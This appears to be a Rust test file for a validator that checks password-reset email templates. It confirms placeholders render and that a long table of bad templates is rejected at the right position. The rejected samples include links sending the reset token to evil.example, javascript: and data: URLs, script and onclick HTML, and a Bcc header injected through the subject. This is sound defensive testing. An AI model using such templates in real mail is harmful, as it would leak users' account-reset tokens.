//! Stored e-mails as their authors and their readers see them.

use super::fixture::{LINK, TOKEN, faults, hosts, mail, text};
use super::*;

#[test]
fn both_parts_show_every_placeholder_inside_the_layout() {
    let body = "Hello {{ member.first_name }},\n\n**Reset** your password at {{ project.name }}:\n\n{{ link }}\n\n\
                - valid for {{ expires_in }}\n- sent to {{ email }}\n\n[Or here](https://app.acme.example/r/{{ token }})\n";
    assert_eq!(faults("Reset for {{ email }}", body), []);
    let mail = mail("Reset for {{ email }}", body);
    assert_eq!(mail.subject, "Reset for elon@example.com");
    insta::assert_snapshot!("stored.txt", mail.text);
    insta::assert_snapshot!("stored.html", mail.html);
}

#[test]
fn jexia_s_placeholders_are_taken() {
    let body = "Hi {{.email}}, your token is {{.token}} and {{ .token }}";
    assert_eq!(faults("Reset {{.email}}", body), []);
    let mail = mail("Reset {{.email}}", body);
    assert_eq!(mail.subject, "Reset elon@example.com");
    assert!(
        mail.text.starts_with(&format!("Hi elon@example.com, your token is\n{TOKEN} and\n{TOKEN}\n")),
        "{}",
        mail.text
    );
    assert!(mail.html.contains(&format!("your token is {TOKEN} and {TOKEN}")), "{}", mail.html);
}

#[test]
fn a_url_with_the_token_in_a_text_becomes_a_link() {
    let mail = mail("x", "Go to https://app.acme.example/reset?token={{ token }}.");
    let url = format!("https://app.acme.example/reset?token={TOKEN}");
    assert!(
        mail.html.contains(&format!("<a href=\"{url}\"")) && mail.html.contains("</a>.</p>"),
        "{}",
        mail.html
    );
    assert!(mail.text.contains(&url));
}

#[test]
fn html_is_written_anew_inside_the_layout() {
    let body = "<html><body><h1>Hi</h1><p>Dear <b>{{ member.first_name }}</b> &amp; co,<br>\n\
                <a href='{{ link }}' style=\"color:red\">reset</a></p><img src=\"https://cdn.acme.example/a.png\" alt=\"A\"></body></html>";
    assert_eq!(faults("x", body), []);
    let mail = mail("x", body);
    assert!(mail.html.contains("<b>Elon</b> &#38; co,<br>"), "{}", mail.html);
    assert!(mail.html.contains(&format!("<a href=\"{}\" style=\"color:red\"", LINK.replace('&', "&#38;"))));
    assert!(mail.text.starts_with("Hi\n\nDear Elon & co,\nreset:"), "{}", mail.text);
    assert_eq!(mail.html.matches("<html").count(), 1);
}

#[test]
fn a_condition_in_a_text_chooses() {
    let body = "{% if event.reason == 'admin' %}An admin asked.{% else %}You asked.{% endif %} {{ link }}";
    assert_eq!(faults("x", body), []);
    assert!(mail("x", body).text.starts_with("You asked."));
}

/// Each with the place that is named.
const WRONG: &[(&str, &str, &str, usize, usize)] = &[
    // Syntax
    ("x", "{{ token", "body", 1, 4),
    ("x", "{{ token }", "body", 1, 10),
    ("x", "{{ }} {{ token }}", "body", 1, 4),
    ("x", "a\n{% if %}{{ token }}{% endif %}", "body", 2, 7),
    ("x", "{{ token }}\n{% endif %}", "body", 2, 4),
    ("x", "{% if event.reason %}{{ token }}", "body", 1, 31),
    ("x", "{{ token }} {{ 'a }}", "body", 1, 21),
    ("x", "{{ token }} {{ a b }}", "body", 1, 18),
    ("{{ email", "{{ token }}", "subject", 1, 4),
    // Names
    ("x", "{{ tokn }} {{ token }}", "body", 1, 4),
    ("x", "a\n\nb {{ member.frist_name }} {{ token }}", "body", 3, 6),
    ("x", "{{ token }} {{ member }}", "body", 1, 16),
    ("x", "{{ token }} {{ event.nothing }}", "body", 1, 16),
    ("x", "{{ token }} {{ event }}", "body", 1, 16),
    ("x", "{{ token }} {{ project.color }}", "body", 1, 16),
    ("x", "{{ token }} {{ config }}", "body", 1, 16),
    ("x", "{{ token }} {{ self }}", "body", 1, 16),
    ("x", "{{ token.x }} {{ token }}", "body", 1, 4),
    ("x", "{{ token }} {{ member['frist'] }}", "body", 1, 16),
    ("x", "{{ token }} {{ member[email] }}", "body", 1, 16),
    ("x", "{{ token }} {{ member.email.x }}", "body", 1, 16),
    ("x", "{{ token }} {% if member.admin %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {{.tokn}}", "body", 1, 16),
    ("{{ nobody }}", "{{ token }}", "subject", 1, 4),
    ("{{ token }}", "{{ token }}", "subject", 1, 4),
    ("Go {{ link }}", "{{ token }}", "subject", 1, 7),
    ("Go {{.token}}", "{{ token }}", "subject", 1, 7),
    // What the language has not
    ("x", "{{ token }} {{ range(10) }}", "body", 1, 16),
    ("x", "{{ token }} {{ member.email.upper() }}", "body", 1, 28),
    ("x", "{{ token }} {{ email * 9 }}", "body", 1, 16),
    ("x", "{{ token }} {{ email ~ email }}", "body", 1, 16),
    ("x", "{{ token }} {{ email + 'x' }}", "body", 1, 16),
    ("x", "{{ token }} {{ email[1:2] }}", "body", 1, 16),
    ("x", "{{ token }} {{ {'a': 1} }}", "body", 1, 16),
    ("x", "{{ token }} {{ email | safe }}", "body", 1, 24),
    ("x", "{{ token }} {{ email | replace('a', 'b') }}", "body", 1, 24),
    ("x", "{{ token | upper }}", "body", 1, 12),
    ("x", "{{ token }} {{ email is safe }}", "body", 1, 25),
    ("x", "{{ token }} {% set a = 1 %}", "body", 1, 16),
    ("x", "{{ token }} {% autoescape false %}{{ email }}{% endautoescape %}", "body", 1, 16),
    ("x", "{{ token }} {% filter upper %}a{% endfilter %}", "body", 1, 16),
    ("x", "{{ token }} {% include 'x' %}", "body", 1, 16),
    ("x", "{{ token }} {% macro a() %}{% endmacro %}", "body", 1, 16),
    // The token
    ("x", "Hello", "body", 1, 1),
    ("x", "{% if token %}a{% endif %}", "body", 1, 1),
    ("x", "{% for c in token %}{{ c }}{% endfor %} {{ token }}", "body", 1, 13),
    ("x", "{% for c in link %}{{ c }}{% endfor %} {{ token }}", "body", 1, 13),
    ("x", "[a](https://evil.example/?t={% for c in token %}{{ c }}{% endfor %}) {{ token }}", "body", 1, 41),
    ("x", "{{ token }} {% for c in [token] %}{{ c }}{% endfor %}", "body", 1, 26),
    ("x", "{{ token }} {% for c in token if c %}{{ c }}{% endfor %}", "body", 1, 25),
    ("x", "{{ token }} {% for c in token|default('') %}{{ c }}{% endfor %}", "body", 1, 31),
    ("x", "{{ token }} {% for c in event.reason or token %}{{ c }}{% endfor %}", "body", 1, 41),
    ("x", "{{ token }} {{ (token or 'x') | upper }}", "body", 1, 17),
    ("x", "{{ token }} {{ email | default(token) }}", "body", 1, 32),
    ("x", "{{ token }} {{ token | first }}", "body", 1, 24),
    ("x", "{{ token }} {{ token | length }}", "body", 1, 24),
    ("x", "{{ token }} {{ token[0] }}", "body", 1, 16),
    ("x", "{{ token }} {{ token[:1] }}", "body", 1, 16),
    ("x", "{{ token }} {% if token == 'a' %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {% if token < 'a' %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {% if 'a' in token %}a{% endif %}", "body", 1, 26),
    ("x", "{{ token }} {% if token is startingwith('a') %}a{% endif %}", "body", 1, 19),
    ("x", "{{ token }} {% if email is eq(token) %}a{% endif %}", "body", 1, 31),
    ("x", "{{ token }} {% if not token %}a{% endif %}", "body", 1, 23),
    ("x", "{{ token }} {{ token if email else email }}", "body", 1, 16),
    ("x", "{{ token }} {{ token ~ 'a' }}", "body", 1, 16),
    ("x", "{{ token }} {% set a = token %}", "body", 1, 16),
    ("x", "{{ token }} {% with a = token %}{{ a }}{% endwith %}", "body", 1, 16),
    // URLs
    ("x", "[a](https://evil.example/{{ token }})", "body", 1, 1),
    ("x", "{{ \"\" }}evil.example/?t={{ token }}", "body", 1, 4),
    ("x", "{{ token }}@evil.example", "body", 1, 4),
    ("x", "a {{ token }}.evil.example", "body", 1, 6),
    ("x", "evil.example/?t={{ token }}&u=https://app.acme.example/", "body", 1, 1),
    ("x", "https://app.acme.example/?u=https://evil.example/?t={{ token }}", "body", 1, 1),
    ("x", "a https://evil.example/?t=**{{ token }}**", "body", 1, 3),
    ("x", "evil.example/?t=*{{ token }}*", "body", 1, 1),
    ("x", "evil.example/?t=`{{ token }}`", "body", 1, 1),
    ("x", "**{{ token }}**@evil.example", "body", 1, 6),
    ("x", "https://evil.example/?t={{ link }}", "body", 1, 1),
    ("x", "[evil.example/?t={{ token }}](https://app.acme.example/)", "body", 1, 2),
    ("x", "![https://evil.example/?t=](https://a.example/a.png){{ token }}", "body", 1, 1),
    ("x", "[](https://evil.example/?t=){{ token }}", "body", 1, 1),
    ("x", "evil.example/?t={% if event.reason %}{{ token }}{% endif %}", "body", 1, 1),
    // Marks that somebody wrote
    ("x", "{{ token }} [a](%EE%80%80l6a6176617363726970743a616c6572742831293b%EE%80%81)", "body", 1, 13),
    ("x", "{{ token }} [a](%ee%80%80l6874%ee%80%81)", "body", 1, 13),
    ("x", "{{ token }} [a](&#xE000;l6874&#xE001;)", "body", 1, 17),
    ("x", "{{ token }} [a](&#57344;l6874&#57345;)", "body", 1, 17),
    ("x", "{{ token }}\n&#x000e000;l6874&#Xe001;", "body", 2, 1),
    ("x", "<p>{{ token }}</p><a href=\"&#xE000;l6874&#xE001;\">x</a>", "body", 1, 19),
    ("x", "a\n\n[a](http://app.acme.example/{{ token }})", "body", 3, 1),
    ("x", "{{ token }} [a](javascript:alert(1))", "body", 1, 13),
    ("x", "{{ token }} [a](data:text/html,x)", "body", 1, 13),
    ("x", "{{ token }} [a](/reset)", "body", 1, 13),
    ("x", "[a](https://{{ event.reason }}/{{ token }})", "body", 1, 1),
    ("x", "Go: https://evil.example/{{ token }}", "body", 1, 5),
    ("x", "Go: evil.example/{{ token }}", "body", 1, 5),
    ("x", "[a](mailto:x@evil.example?body={{ token }}) ", "body", 1, 1),
    ("x", "![a](https://evil.example/{{ token }}.png)", "body", 1, 1),
    ("x", "{{ token }} ![a](http://a.example/a.png)", "body", 1, 13),
    // HTML
    ("x", "<p>{{ token }}", "body", 1, 1),
    ("x", "<p>{{ token }}</p>\n<script>x</script>", "body", 2, 1),
    ("x", "<p onclick=\"x\">{{ token }}</p>", "body", 1, 4),
    ("x", "<p>{{ token }}</p><p style=\"background:url(https://a.example)\">x</p>", "body", 1, 19),
    ("x", "<p>{{ token }}</p><a href={{ link }}>x</a>", "body", 1, 30),
    ("x", "<p>{{ token }}</p><p style=\"color:{{ email }}\">x</p>", "body", 1, 19),
    ("x", "<form><p>{{ token }}</p></form>", "body", 1, 1),
    ("x", "<p>{{ token }}</p><!-- a", "body", 1, 19),
    ("x", "<p>https://evil.example/?t=<b>{{ token }}</b></p>", "body", 1, 4),
    ("x", "<p>a <i>evil</i>.example/?t={{ token }}</p>", "body", 1, 9),
    ("x", "<p><img src=\"https://a.example/a.png\" alt=\"evil.example/?t=\">{{ token }}</p>", "body", 1, 4),
    ("x", "<p><a href=\"https://b.example/\">evil.example/?t=</a>{{ token }}</p>", "body", 1, 33),
    // Form
    ("", "{{ token }}", "subject", 1, 1),
    ("a\nBcc: x@example.com", "{{ token }}", "subject", 1, 2),
    ("x", "", "body", 1, 1),
    ("x", "{{ token }}\u{e000}", "body", 1, 12),
    ("x", "{{ token }}\0", "body", 1, 12),
];

#[test]
fn each_wrong_template_is_refused_at_its_place() {
    assert!(WRONG.len() >= 60, "{}", WRONG.len());
    let mut missed = Vec::new();
    for (subject, body, field, line, column) in WRONG {
        let found = faults(subject, body);
        if found != [(*field, *line, *column)] {
            missed.push(format!("{subject:?} {body:?}: {field} {line}:{column}, not {found:?}"));
        }
    }
    assert!(missed.is_empty(), "\n{}", missed.join("\n"));
    let long = "x".repeat(LONGEST_BODY);
    assert_eq!(faults("x", &format!("{{{{ token }}}}{long}")), [("body", 1, LONGEST_BODY + 1)]);
}

#[test]
fn a_notice_without_a_token_names_none() {
    let hosts = hosts();
    let purposes = Purposes { event_type: "account.password-changed", token: false, link_hosts: &hosts };
    let of = |body: &str| check(&text("x", body), &purposes).len();
    assert_eq!((of("Changed by {{ event.by }}"), of("{{ token }}"), of("{{ expires_in }}")), (0, 1, 1));
}
